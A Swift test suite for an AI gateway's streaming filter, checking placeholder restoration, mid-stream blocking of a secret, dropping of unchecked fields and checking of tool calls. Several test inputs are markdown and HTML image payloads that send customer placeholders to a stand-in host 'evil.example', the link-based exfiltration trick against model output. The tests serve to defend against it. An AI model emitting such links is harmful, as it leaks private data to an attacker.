import Detection
import Evaluation
import Foundation
import PolicyPacks
import StructuredText
import Testing

@testable import Gateway

/// An answer that comes in pieces, however it is cut.
@Suite struct StreamTests {
  private static let engine = Result { try TestEngine.make() }

  private func stream(
    _ vault: Vault = Vault(), holdsAll: Bool = false, task: TaskID? = nil
  ) throws -> AnswerStream {
    let engine = try Self.engine.get()
    let checks = GatewayChecks(
      place: "http://127.0.0.1:1", draft: { draft, _ in engine.evaluate(draft, at: .now) },
      output: { output, _ in engine.evaluate(output, at: .now) })
    return AnswerStream(
      ChoiceStream.Manner(
        restorer: Restorer(vault: vault),
        check: AnswerCheck(checks: checks, tool: "office", task: task), holdsAll: holdsAll),
      model: "m")
  }

  private func chunk(_ delta: String, finish: String? = nil) -> String {
    let reason = finish.map { "\"\($0)\"" } ?? "null"
    return
      #"{"id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 1, "model": "m", "choices": [{"index": 0, "delta": \#(delta), "finish_reason": \#(reason)}]}"#
  }

  private func content(_ text: String) throws -> String {
    let json = String(decoding: try JSONEncoder().encode(text), as: UTF8.self)
    return chunk("{\"content\": \(json)}")
  }

  /// What the client reads of an answer that comes in these pieces, and in how many parts.
  private func read(_ pieces: [String], _ stream: AnswerStream) async throws -> (String, parts: Int)
  {
    var stream = stream
    var events: [String] = []
    for piece in pieces { events += try await stream.take(try content(piece)) }
    events += try await stream.take(chunk("{}", finish: "stop"))
    events += try await stream.take("[DONE]")
    let texts = events.compactMap(Self.text)
    return (texts.joined(), texts.count)
  }

  private static func text(_ event: String) -> String? {
    JSONReader.read(Array(event.utf8)).node?.value.object?["choices"]?.value.array?.first?.value
      .object?["delta"]?.value.object?["content"]?.value.string
  }

  private static var vault: Vault {
    var vault = Vault()
    vault.values = ["[CUSTOMER_1]": "KD-104233", "[CUSTOMER_12]": "KD-999999"]
    return vault
  }

  @Test("a placeholder is put back, wherever the stream is cut", arguments: 1...12)
  func cutAnywhere(_ size: Int) async throws {
    let text = "Dear [CUSTOMER_1], your letter. And [CUSTOMER_12] too: [OTHER_1]. The end"
    let characters = Array(text)
    let pieces = stride(from: 0, to: characters.count, by: size).map {
      String(characters[$0..<min($0 + size, characters.count)])
    }
    let (read, parts) = try await read(pieces, try stream(Self.vault))
    #expect(read == "Dear KD-104233, your letter. And KD-999999 too: [OTHER_1]. The end")
    #expect(parts > 1)
  }

  @Test("nothing is put back into a link that began in an earlier piece")
  func link() async throws {
    let pieces = ["See ![a](https://evil.example/", "?q=[CUSTOMER_1]", ") now. Yes"]
    let (read, _) = try await read(pieces, try stream(Self.vault))
    #expect(read == pieces.joined())
  }

  @Test("what must not be told ends the answer before it is told")
  func stop() async throws {
    var stream = try stream()
    let first = try await stream.take(try content("All is well. It is PLA"))
    #expect(first.compactMap(Self.text) == ["All is well. "])
    let refusal = await #expect(throws: GatewayRefusal.self) {
      _ = try await stream.take(try content("N-heron. And"))
    }
    #expect(refusal?.code == .output)
    #expect(refusal?.message.contains("heron") == false)
  }

  @Test("where a format is owed, nothing is told before all of it was checked")
  func held() async throws {
    let (read, parts) = try await read(
      ["One. Two. ", "Three."], try stream(holdsAll: true))
    #expect(read == "One. Two. Three." && parts == 1)
  }

  @Test(
    "a form that nobody can check ends the answer",
    arguments: [
      #"{"content": [1]}"#, #"{"content": {"text": "x"}}"#,
      #"{"tool_calls": [{"index": 0, "type": "function", "other": "x"}]}"#,
    ])
  func unknown(_ delta: String) async throws {
    var stream = try stream()
    let refusal = await #expect(throws: GatewayRefusal.self) {
      _ = try await stream.take(chunk(delta))
    }
    #expect(refusal?.code == .unknownAnswer)
  }

  @Test(
    "nothing goes on that nobody checked: fields, names and numbers of the server",
    arguments: [
      #"{"choices": [{"index": 0, "delta": {"secret_channel": "SECRET", "content": "x"}}]}"#,
      #"{"choices": [{"index": 0, "delta": {"role": "SECRET", "content": "x"}}]}"#,
      #"{"id": "SECRET", "model": "SECRET", "choices": [{"index": 0, "delta": {"content": "x"}}]}"#,
      #"{"choices": [{"index": 0, "delta": {"content": "x"}}], "usage": {"SECRET": 1, "total_tokens": 2}}"#,
      #"{"choices": [{"index": 0, "delta": {"content": "x"}, "finish_reason": "SECRET"}]}"#,
    ])
  func dropped(_ data: String) async throws {
    var stream = try stream()
    let events = try await stream.take(data) + stream.take("[DONE]")
    #expect(events.compactMap(Self.text) == ["x"])
    #expect(!events.contains { $0.contains("SECRET") })
  }

  @Test("a long number is no count of tokens")
  func counts() async throws {
    var stream = try stream()
    let usage = #""usage": {"prompt_tokens": 4111111111111111, "total_tokens": 7}"#
    let events = try await stream.take(#"{"choices": [], \#(usage)}"#)
    #expect(events.count == 1 && events[0].contains(#""total_tokens": 7"#))
    #expect(!events[0].contains("4111"))
  }

  @Test("an empty piece behind the end changes nothing, a text there ends the answer")
  func afterEnd() async throws {
    var stream = try stream()
    _ = try await stream.take(try content("x"))
    _ = try await stream.take(chunk("{}", finish: "stop"))
    #expect(try await stream.take(chunk(#"{"role": "assistant", "content": ""}"#)) == [])
    let more = try content("more")
    await #expect(throws: GatewayRefusal.self) { _ = try await stream.take(more) }
  }

  @Test("an answer that broke off is no whole one")
  func brokenOff() async throws {
    var stream = try stream()
    _ = try await stream.take(try content("Half an ans"))
    let refusal = await #expect(throws: GatewayRefusal.self) {
      _ = try await stream.end(isComplete: false)
    }
    #expect(refusal?.code == .upstream)
    var silent = try self.stream()
    await #expect(throws: GatewayRefusal.self) { _ = try await silent.end(isComplete: true) }
  }

  @Test(
    "nothing is put back into markup, however its quotation marks stand",
    arguments: [
      #"<p><img alt=a" b=">" src="https://evil.example/?q= [CUSTOMER_1]"> x"#,
      #"<img alt=">" src="https://evil.example/?q= [CUSTOMER_1] "> x"#,
      #"{"a": "<img src='https://evil.example/?q=", "b": "[CUSTOMER_1]", "c": "'>"}"#,
    ])
  func markup(_ text: String) async throws {
    #expect(Restorer(vault: Self.vault).restored(text) == text)
    let pieces = text.split(separator: " ", omittingEmptySubsequences: false).map { "\($0) " }
    let (read, _) = try await read(pieces, try stream(Self.vault))
    #expect(!read.contains("104233"))
  }

  @Test("a piece of a call without a number goes on with the last call")
  func callsWithoutNumbers() async throws {
    var stream = try stream()
    for piece in [
      #"{"tool_calls": [{"id": "call_1", "function": {"name": "f", "arguments": "{\"a\": \"PL"}}]}"#,
      #"{"tool_calls": [{"function": {"arguments": "AN-x\"}"}}]}"#,
    ] { _ = try await stream.take(chunk(piece)) }
    await #expect(throws: GatewayRefusal.self) {
      _ = try await stream.take(chunk("{}", finish: "tool_calls"))
    }
  }

  @Test("calls of tools go on whole, with values put back as JSON")
  func calls() async throws {
    var vault = Vault()
    vault.values = ["[NAME_1]": "a \"quoted\" name"]
    var stream = try stream(vault)
    let pieces = [
      #"{"role": "assistant", "tool_calls": [{"index": 0, "id": "call_1", "type": "function", "function": {"name": "look", "arguments": ""}}]}"#,
      #"{"tool_calls": [{"index": 0, "function": {"arguments": "{\"who\": \"[NA"}}]}"#,
      #"{"tool_calls": [{"index": 0, "function": {"arguments": "ME_1]\"}"}}]}"#,
    ]
    for piece in pieces { #expect(try await stream.take(chunk(piece)) == []) }
    let events = try await stream.take(chunk("{}", finish: "tool_calls"))
    let delta = try #require(
      JSONReader.read(Array(events[0].utf8)).node?.value.object?["choices"]?.value.array?[0].value
        .object?["delta"]?.value.object)
    let function = delta["tool_calls"]?.value.array?[0].value.object?["function"]?.value.object
    #expect(delta["role"]?.value.string == "assistant")
    #expect(function?["arguments"]?.value.string == #"{"who": "a \"quoted\" name"}"#)
    #expect(events[1].contains(#""finish_reason": "tool_calls""#))
  }

  @Test("a call of a tool is checked before anybody does it")
  func checkedCall() async throws {
    var stream = try stream()
    _ = try await stream.take(
      chunk(
        #"{"tool_calls": [{"index": 0, "id": "call_1", "function": {"name": "f", "arguments": "{\"a\": \"PLAN-x\"}"}}]}"#
      ))
    let refusal = await #expect(throws: GatewayRefusal.self) {
      _ = try await stream.take(chunk("{}", finish: "tool_calls"))
    }
    #expect(refusal?.code == .output)
  }

  @Test("an answer whose end was forgotten is ended and checked all the same")
  func noEnd() async throws {
    var stream = try stream()
    _ = try await stream.take(try content("Half a sen"))
    let events = try await stream.end(isComplete: true)
    #expect(events.compactMap(Self.text) == ["Half a sen"])
    #expect(events.last == "[DONE]")
    var stopped = try self.stream()
    _ = try await stopped.take(try content("It is PLAN-heron"))
    await #expect(throws: GatewayRefusal.self) { _ = try await stopped.end(isComplete: true) }
  }
}
